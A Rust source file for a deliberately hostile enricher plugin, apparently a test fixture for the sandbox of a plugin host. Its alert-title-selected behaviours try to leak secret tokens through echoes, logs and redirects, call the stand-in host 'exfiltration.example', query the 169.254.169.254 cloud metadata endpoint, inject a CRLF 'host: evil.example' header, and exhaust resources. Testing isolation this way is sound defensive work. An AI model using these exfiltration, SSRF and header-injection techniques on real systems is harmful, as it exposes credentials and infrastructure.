//! An enricher that tries to get at secrets, servers and tables that it may not have. The alert's title chooses how: see
//! [`BEHAVIOURS`]. Its configuration is no JSON but two URLs: a server, and another one.
//!
//! It speaks the contract itself, without the SDK, so that it can also do what the SDK would not allow.

wit_bindgen::generate!({
    path: "../../../wit/v0.1.0",
    world: "enricher",
});

use std::sync::Mutex;

use exports::yagura::plugin::enrichment::{Alert, Attribute, Enriched, Guest, PluginError};
use yagura::plugin::http::{self, HttpError, Request, Response};
use yagura::plugin::log::{Level, log};
use yagura::plugin::{lookup, search};

/// What an alert's title makes the enricher do. Each has a test in `runtime/host/tests/it/hostile.rs`.
const BEHAVIOURS: [&str; 18] = [
    // Does what it should.
    "well-behaved",
    // Tries to see the secret.
    "echo-secret",
    "echo-encoded",
    "log-secret",
    "secret-in-later-call",
    // Tries to send it where it does not belong.
    "redirect-secret",
    "secret-elsewhere",
    "other-secret",
    "secret-in-host",
    "placeholder-of-data",
    // Tries to get at others.
    "other-server",
    "metadata-server",
    "inject-header",
    // Uses too much.
    "call-for-ever",
    "attribute-flood",
    "attribute-huge",
    // Looks into tables.
    "search",
    "lookup",
];

static SERVERS: Mutex<Vec<String>> = Mutex::new(Vec::new());

struct Hostile;

impl Guest for Hostile {
    fn open(config: String) -> Result<(), PluginError> {
        *SERVERS.lock().expect("one thread") = config.split(' ').map(str::to_owned).collect();
        Ok(())
    }

    fn enrich(alert: Alert) -> Result<Enriched, PluginError> {
        let behaviour = alert.title.as_str();
        if !BEHAVIOURS.contains(&behaviour) {
            return Err(PluginError::Config(format!("no behaviour `{behaviour}`")));
        }
        let servers = SERVERS.lock().expect("one thread").clone();
        let server = |path: &str| format!("{}{path}", servers[0]);
        let attributes = match behaviour {
            "well-behaved" => told(get(&server("/plain"))),
            "echo-secret" => told(send(secret_request(&server("/echo")))),
            "echo-encoded" => told(send(secret_request(&server("/encoded")))),
            "log-secret" => {
                let answer = told(send(secret_request(&server("/echo"))));
                for attribute in &answer {
                    log(Level::Error, &attribute.value);
                }
                log(Level::Error, "{{secret:TOKEN}}");
                Vec::new()
            }
            "secret-in-later-call" => {
                let _ = send(secret_request(&server("/remember")));
                told(get(&server("/remembered")))
            }
            "redirect-secret" => told(send(secret_request(&server("/to-other")))),
            "secret-elsewhere" => told(send(secret_request(&format!("{}/echo", servers[1])))),
            "other-secret" => {
                let mut request = secret_request(&server("/echo"));
                request.headers = vec![("authorization".to_owned(), "{{secret:OTHER}}".to_owned())];
                told(send(request))
            }
            "secret-in-host" => told(get("http://{{secret:TOKEN}}.example/")),
            "placeholder-of-data" => {
                let mut request = secret_request(&server("/echo"));
                request.headers.clear();
                request.body = alert.key.clone().into_bytes();
                told(send(request))
            }
            "other-server" => told(get("https://exfiltration.example/")),
            "metadata-server" => told(get("http://169.254.169.254/latest/meta-data/")),
            "inject-header" => {
                let mut request = secret_request(&server("/echo"));
                request.headers = vec![("x".to_owned(), "a\r\nhost: evil.example".to_owned())];
                told(send(request))
            }
            "call-for-ever" => loop {
                let _ = get(&server("/plain"));
            },
            "attribute-flood" => (0..100_000)
                .map(|_| attribute("n", "v".to_owned()))
                .collect(),
            "attribute-huge" => vec![attribute("n", "v".repeat(1 << 20))],
            "search" => ["dns", "dhcp"].into_iter().map(find).collect(),
            _ => ["own", "assets", "users"]
                .into_iter()
                .map(look_up)
                .collect(),
        };
        Ok(Enriched {
            attributes,
            observables: vec![("ip".to_owned(), "192.0.2.1".to_owned())],
        })
    }
}

fn get(url: &str) -> Result<Response, HttpError> {
    send(Request {
        method: "GET".to_owned(),
        url: url.to_owned(),
        headers: Vec::new(),
        body: Vec::new(),
        sign: None,
    })
}

fn secret_request(url: &str) -> Request {
    Request {
        method: "GET".to_owned(),
        url: format!("{url}?key={{{{secret:TOKEN}}}}"),
        headers: vec![
            (
                "authorization".to_owned(),
                "Basic {{basic:user:TOKEN}}".to_owned(),
            ),
            ("x-token".to_owned(), "{{secret:TOKEN}}".to_owned()),
        ],
        body: b"{{secret:TOKEN}}".to_vec(),
        sign: None,
    }
}

fn send(request: Request) -> Result<Response, HttpError> {
    http::send(&request)
}

/// Hands everything that came back to the host.
fn told(answer: Result<Response, HttpError>) -> Vec<Attribute> {
    let response = match answer {
        Ok(response) => response,
        Err(error) => return vec![attribute("error", format!("{error:?}"))],
    };
    let mut all = vec![attribute("status", response.status.to_string())];
    for (name, value) in response.headers {
        all.push(attribute("header", format!("{name}: {value}")));
    }
    all.push(attribute(
        "body",
        String::from_utf8_lossy(&response.body).into_owned(),
    ));
    all
}

fn find(table: &str) -> Attribute {
    let found = search::find(&search::Query {
        table: table.to_owned(),
        observable: ("ip".to_owned(), "192.0.2.1".to_owned()),
        from: 0,
        to: 1,
        columns: vec!["query".to_owned()],
        limit: u32::MAX,
    });
    let told = found.map(|events| {
        let values = String::from_utf8_lossy(&events.batch.columns[0].values).into_owned();
        format!("{} {} {values}", events.batch.rows, events.schema[0].name)
    });
    attribute(table, format!("{told:?}"))
}

fn look_up(table: &str) -> Attribute {
    attribute(table, format!("{:?}", lookup::get(table, "192.0.2.1")))
}

fn attribute(name: &str, value: String) -> Attribute {
    Attribute {
        name: name.to_owned(),
        value,
        source: "hostile".to_owned(),
    }
}

export!(Hostile);
